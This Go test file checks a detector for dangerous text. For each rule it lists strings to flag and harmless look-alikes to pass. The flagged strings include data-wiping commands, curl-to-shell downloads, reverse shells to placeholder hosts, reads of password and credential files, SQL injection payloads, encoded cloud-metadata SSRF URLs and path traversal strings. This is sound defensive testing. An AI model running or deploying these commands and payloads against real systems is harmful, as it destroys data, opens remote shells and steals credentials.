package detect

import (
	"slices"
	"testing"

	"github.com/stretchr/testify/require"
)

// dangers are for each rule texts in which it finds something, and texts like them that it
// leaves alone.
var dangers = map[string]struct{ found, left []string }{
	"shell_remove": {
		[]string{"rm -rf /", "sudo rm -fr --no-preserve-root /", "rm -r -f ~/", `rm -rf "$HOME"`, "rm${IFS}-rf${IFS}/", `["rm","-rf","/"]`, "rm -rf ./build /etc", "rm --recursive --force /home/jane", "cd /x && rm -rf *", "RM -rf /", `{"command":"rm -rf /"}`},
		[]string{"rm -rf ./build", "rm -rf /tmp/cache", "rm -f /etc", "rm notes.txt", "rm -rf node_modules; ls /", "farm -rf /", `{"command":"rm -rf build"}`, "rm -r /opt/app/cache", "confirm -r /"},
	},
	"shell_remove_windows":      {[]string{`del /f /s /q C:\`, `rd /s /q "D:\data`}, []string{"del file.txt", `rd build`}},
	"shell_remove_powershell":   {[]string{`Remove-Item C:\data -Recurse -Force`}, []string{"Remove-Item one.txt", "remove-items"}},
	"shell_find_delete":         {[]string{"find / -name '*.log' -delete", "find ~ -type f -exec rm {} +"}, []string{"find / -name x", "find the file -delete", "find ./build -delete"}},
	"shell_disk":                {[]string{"dd if=/dev/zero of=/dev/sda bs=1M"}, []string{"dd if=a of=b", "dd if=/dev/sda of=/dev/null", "add of=/dev/sda"}},
	"shell_disk_made":           {[]string{"mkfs.ext4 /dev/sdb1", "mkfs -t ext4 /dev/sdb"}, []string{"mkfs.ext4 disk.img"}},
	"shell_disk_written":        {[]string{"cat x > /dev/sda", "echo >/dev/nvme0n1"}, []string{"echo x > /dev/null"}},
	"shell_fork_bomb":           {[]string{":(){ :|:& };:", ": () { : | : & }"}, []string{":() {}"}},
	"shell_download_run":        {[]string{"curl -s https://x.test/i | sh", "wget -qO- x.test|sudo -E bash -", "curl x.test | /usr/bin/env python3", "curl -o i x.test && chmod +x i", "iwr https://x.test/i.ps1 | iex", "curl https://x.test \\\n | bash"}, []string{"curl https://x.test | jq .", "curl https://x.test -o file", "curl x.test\nls | sh", "curl x.test | shasum", "curl x.test; ls"}},
	"shell_decode_run":          {[]string{"echo aGk= | base64 -d | sh", "openssl enc -d -in a | bash"}, []string{"base64 -d file", "base64 -d x | jq ."}},
	"shell_run_download":        {[]string{`bash -c "$(curl -fsSL https://x.test)"`, "bash <(wget -qO- x.test)", `eval "$(base64 -d <<< aGk=)"`}, []string{"bash build.sh", "source venv/bin/activate", "eval $x", "eval `date`", "bash -c 'curl https://x.test -o a'"}},
	"shell_powershell_eval":     {[]string{"iex (New-Object Net.WebClient).DownloadString('x')", "IEX(irm https://x.test)"}, []string{"iex $x"}},
	"shell_powershell_coded":    {[]string{"powershell -nop -enc SQBFAFgAIAAoAE4AZQB3", "powershell.exe -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3"}, []string{"powershell -File a.ps1", "pwsh -ExecutionPolicy Bypass"}},
	"shell_python_decoded":      {[]string{"exec(base64.b64decode('aGk='))", "exec(__import__('base64').b64decode(x))"}, []string{"base64.b64decode(x)", "eval(x)"}},
	"reverse_shell_dev":         {[]string{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/tcp/x.test/80"}, []string{"/dev/tcp", "ls /dev/ttyS0"}},
	"reverse_shell_nc":          {[]string{"nc -e /bin/sh 10.0.0.1 4444", "ncat x.test 1 -e bash", "nc x.test 9 | sh"}, []string{"nc -zv x.test 443", "nc -l 80"}},
	"reverse_shell_fifo":        {[]string{"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x.test 9 > /tmp/f"}, []string{"mkfifo /tmp/f"}},
	"reverse_shell_socat":       {[]string{"socat tcp:x.test:9 exec:'bash -li',pty"}, []string{"socat - tcp:x.test:9"}},
	"reverse_shell_interactive": {[]string{"bash -i >& /x", "sh -i 2>&1"}, []string{"bash -i", "bash -c 'ls > a'"}},
	"reverse_shell_script":      {[]string{"import socket,subprocess,os;s=socket.socket()", "import socket\nimport pty\npty.spawn('sh')", "require('net');require('child_process')"}, []string{"import socket\nprint(socket.gethostname())", "import sockets"}},
	"shell_chmod":               {[]string{"chmod 777 /srv", "chmod -R 0777 .", "chmod u+s x", "chmod 4755 x", "chmod a+rwx ."}, []string{"chmod 644 x", "chmod +x run", "chmod 755 run", "chmod 7777x"}},
	"shell_cron":                {[]string{"crontab -e", "crontab /tmp/jobs", "crontab -u root -r", "(crontab -l; echo x) | crontab -"}, []string{"crontab -l", "crontab -u root -l", "a crontabs"}},
	"shell_cron_piped":          {[]string{"(crontab -l; echo '* * * * * x') |crontab -", "echo x | sudo crontab -"}, []string{"ls | crontabs"}},
	"shell_cron_file":           {[]string{"cp x /etc/cron.d/x", "/etc/crontab", "ls /var/spool/cron"}, []string{"/etc/cronies"}},
	"shell_startup_file":        {[]string{"echo x >> ~/.bashrc", `cat k >"$HOME/.ssh/authorized_keys`, "> /home/jane/.profile"}, []string{"cat ~/.bashrc", "echo x > .bashrcs", "a > b"}},
	"shell_defences":            {[]string{"iptables -F", "systemctl stop auditd", "unset HISTFILE", "setenforce 0"}, []string{"iptables -L", "systemctl restart nginx", "history"}},
	"shell_shadow_copies":       {[]string{"vssadmin delete shadows /all", "wmic shadowcopy delete"}, []string{"vssadmin list shadows"}},
	"file_accounts":             {[]string{"cat /etc/passwd", "/etc/shadow", "../../etc/passwd"}, []string{"/etc/hosts", "/etc/passwdx"}},
	"file_accounts_windows":     {[]string{`C:\Windows\System32\config\SAM`}, []string{`C:\Windows\System32\drivers`}},
	"file_private_key":          {[]string{"cat ~/.ssh/id_rsa", "id_ed25519", "/etc/ssh/ssh_host_rsa_key"}, []string{"cat id_rsa.pub", "user_id_rsax"}},
	"file_ssh":                  {[]string{"cat .ssh/config", "~/.ssh/known_hosts"}, []string{"ls .ssh", "x.sshd/config"}},
	"file_cloud_credentials":    {[]string{"~/.aws/credentials", "$HOME/.kube/config", ".docker/config.json"}, []string{"aws/credentials", ".kube/cache"}},
	"file_credentials":          {[]string{"cat .netrc", "~/.git-credentials", "~/.config/gh/hosts.yml"}, []string{"netrc", ".gitignore"}},
	"file_process":              {[]string{"cat /proc/self/environ", "/proc/1/mem"}, []string{"/proc/cpuinfo", "/proc/self/status"}},
	"file_service_account":      {[]string{"/var/run/secrets/kubernetes.io/serviceaccount/token"}, []string{"/run/secrets/mine"}},
	"file_container_socket":     {[]string{"curl --unix-socket /var/run/docker.sock http://x/"}, []string{"/var/run/nginx.sock"}},
	"file_scheme":               {[]string{"file:///data/x", "FILE:/x"}, []string{"profile: x", "file: x"}},
	"sql_drop":                  {[]string{"DROP TABLE users;", "drop/**/database x", "'; DROP TABLE students; --"}, []string{"drop the table", "dropdown table x", "DROP COLUMN x"}},
	"sql_truncate":              {[]string{"TRUNCATE TABLE users", "truncate users;"}, []string{"truncate the text", "truncate(x)"}},
	"sql_delete_all":            {[]string{"DELETE FROM users", "delete from users where 1=1", "DELETE /* x */ FROM users;", `{"sql":"DELETE FROM users"}`, "delete\nfrom\nusers"}, []string{"DELETE FROM users WHERE id = 7", `DELETE FROM "users" WHERE "id" = 7`, "delete the rows", "delete from users limit 5", "undelete from users"}},
	"sql_update_all":            {[]string{"UPDATE users SET admin = true", "update t set a=1 where true", "UPDATE users u SET x=1; SELECT 1 WHERE a=1"}, []string{"UPDATE users SET a = 1 WHERE id = 7", "update the set", "update now", "update set"}},
	"sql_alter":                 {[]string{"ALTER USER root IDENTIFIED BY 'x'", "alter login sa enable"}, []string{"ALTER TABLE x ADD y int", "alter users x"}},
	"sql_grant":                 {[]string{"GRANT ALL ON *.* TO x", "grant dba to x"}, []string{"GRANT SELECT ON x TO y", "grant all_hands"}},
	"sql_union":                 {[]string{"1 UNION SELECT password FROM users", "union/**/all/**/select 1", "union (select 1)"}, []string{"union of sets", "reunion select"}},
	"sql_stacked":               {[]string{"1; DROP TABLE x", "x';insert into y values(1)", "1; exec xp"}, []string{"select 1; select 2", "a; update", "run; drop-in"}},
	"sql_tautology":             {[]string{"' OR '1'='1", "') or 1=1", "x' or 'a'='a", "\" or true--"}, []string{"a or b", "x' or y", "where id = 1 or id = 2"}},
	"sql_comment_ends":          {[]string{"admin'--'", `admin' -- "`}, []string{"a -- b", "'a' # c"}},
	"sql_runs":                  {[]string{"exec xp_cmdshell 'dir'", "utl_http.request('x')", "SELECT load_extension('x')"}, []string{"xp_command", "extprocs"}},
	"sql_copy_program":          {[]string{"COPY x FROM PROGRAM 'id'", "copy (select 1) to program 'curl x'"}, []string{"COPY x FROM STDIN", "copy the file"}},
	"sql_reads_files":           {[]string{"select load_file('/x')", "pg_read_file ('x')"}, []string{"load_files(x)", "load_file"}},
	"sql_load_data":             {[]string{"LOAD DATA LOCAL INFILE 'x'", "load data infile 'x'"}, []string{"load data into x"}},
	"sql_outfile":               {[]string{"select 1 INTO OUTFILE '/x'", "into dumpfile 'x'"}, []string{"into outfiles", "into the file"}},
	"sql_delay":                 {[]string{"select pg_sleep(10)", "1 WAITFOR DELAY '0:0:5'", "sleep(5)--", "benchmark(5000000,md5(1))"}, []string{"sleep(5)", "time.sleep(1)", "benchmark(f)"}},
	"metadata_url":              {[]string{"http://169.254.169.254/x", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/", "http://0xa9.254.0251.254/", "http://169.254.43518/", "http://169.16689662/", "http://[::ffff:169.254.169.254]/", "http://[::ffff:a9fe:a9fe]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://x@169.254.169.254/", "http://169.254.169.254.nip.io/", "http://１６９.２５４.１６９.２５４/", "http://169%2e254%2e169%2e254/", "http:\\\\169.254.169.254", "http://metadata.google.internal./", "http://100.100.100.200/", "http://[fe80::1%25eth0]@169.254.169.254/"}, []string{"http://169.254.1.1/", "http://example.com/169.254.169.254", "http://metadata.example.com/"}},
	"metadata_address":          {[]string{"169.254.169.254", "curl 169.254.169.254/latest", "2852039166", "0xA9FEA9FE", "025177524776", "169.254.43518", "::ffff:169.254.169.254"}, []string{"169.254.169.25", "1169.254.169.254", "28520391660", "169.254.169.2540"}},
	"metadata_address_6":        {[]string{"[::ffff:a9fe:a9fe]", "64:ff9b::A9FE:A9FE"}, []string{"a9fe:a9fe1", "x:a9fe:a9ff"}},
	"metadata_address_own_6":    {[]string{"fd00:ec2::254", "fd00:0ec2:0:0:0:0:0:254", "fd20:ce::254"}, []string{"fd00:ec2::25", "fd00:ec3::254"}},
	"metadata_host":             {[]string{"metadata.google.internal", "curl METADATA.goog/x", "instance-data"}, []string{"metadata.google.com", "the metadata"}},
	"metadata_path":             {[]string{"/latest/meta-data/iam", "/computeMetadata/v1/", "/metadata/instance?api-version=1", "/latest/api/token"}, []string{"/latest/news", "/metadata/x"}},
	"loopback_url":              {[]string{"http://localhost:8080/", "https://127.0.0.1", "http://127.1/", "http://0/", "http://[::1]:80/", "http://2130706433/", "http://0x7f000001/", "http://app.localhost/", "redis://127.0.0.1:6379", "http://[::]/", "http://[::ffff:127.0.0.1]/"}, []string{"http://128.0.0.1/", "http://example.com/?u=localhost", "http://localhost.example.com/"}},
	"private_url":               {[]string{"http://10.0.0.5/", "http://192.168.1.1", "http://172.16.0.1:8080", "http://172.31.255.255", "http://user:pw@10.1.2.3/", "http://[fd12:3456::1]/", "http://100.64.0.1/", "http://10.0.0.1.nip.io/", "http://0x0a000001/", "postgres://10.0.0.5/db", "jdbc:mysql://10.0.0.5/db"}, []string{"http://172.32.0.1/", "http://11.0.0.1/", "http://[2001:db8::1]/", "10.0.0.5"}},
	"link_local_url":            {[]string{"http://169.254.1.1/", "http://[fe80::1]/"}, []string{"http://169.255.1.1/"}},
	"internal_name_url":         {[]string{"http://jenkins.corp.internal/", "https://printer.local", "http://api.default.svc.cluster.local:8080/x", "http://db:5432/", "https://wiki.corp/x", "grpc://billing.svc"}, []string{"https://example.com/x.internal", "https://internal.example.com/", "https://local.test.example/"}},
	"traversal_plain":           {[]string{"../../../etc", `..\..\..\x`, "a/../../../b", "..//..//..//x"}, []string{"../../src", "../x", "...../"}},
	"traversal_encoded":         {[]string{"%2e%2e/x", "..%2fx", "%2e%2e%2f", ".%2e/x", "..%252fx", "..%c0%afx"}, []string{"%2e", "a%2fb", "../x"}},
	"traversal_doubled":         {[]string{"....//....//x", `....\\x`}, []string{"...", ".... /"}},
	"traversal_system":          {[]string{"../etc/x", "../../proc/self", `..\windows\x`, "../.ssh/x"}, []string{"../etcetera", "../src", "../.github"}},
}

func TestEveryDangerIsFoundAndWhatIsLikeItIsNot(t *testing.T) {
	for _, r := range dangerous() {
		t.Run(r.ID, func(t *testing.T) {
			d := dangers[r.ID]
			require.NotEmpty(t, d.found)
			require.NotEmpty(t, d.left)
			alone, group := set(t, r), set(t, inGroup(r.Group)...)
			for _, text := range d.found {
				require.NotEmpty(t, found(t, alone, text), text)
				require.NotEmpty(t, found(t, group, text), "in its group: %s", text)
			}
			for _, text := range d.left {
				require.Empty(t, words(alone, text, found(t, alone, text)), text)
			}
		})
	}
	require.Len(t, dangers, len(dangerous()))
}

func inGroup(group string) []Rule {
	return slices.DeleteFunc(Dangerous(), func(r Rule) bool { return r.Group != group })
}

func TestDangersAreFoundHoweverTheTextIsCut(t *testing.T) {
	for _, r := range dangerous() {
		s := set(t, inGroup(r.Group)...)
		for _, text := range dangers[r.ID].found {
			text = `{"a":"` + text + `","b":1}`
			whole := found(t, s, text)
			for i := range len(text) {
				require.Equal(t, whole, found(t, s, text[:i], text[i:]), "%s: %s cut at %d", r.ID, text, i)
			}
		}
	}
}

func TestDangersHaveNamesOfTheirOwn(t *testing.T) {
	taken := map[string]bool{}
	for _, r := range Builtin() {
		taken[r.ID], taken[r.Group] = true, true
	}
	ids := map[string]bool{}
	for _, r := range dangerous() {
		require.False(t, taken[r.ID] || taken[r.Group] || ids[r.ID], r.ID)
		require.Equal(t, ClassDangerous, r.Class)
		ids[r.ID] = true
	}
	for _, r := range dangerous() {
		require.False(t, ids[r.Group], r.Group)
	}
}
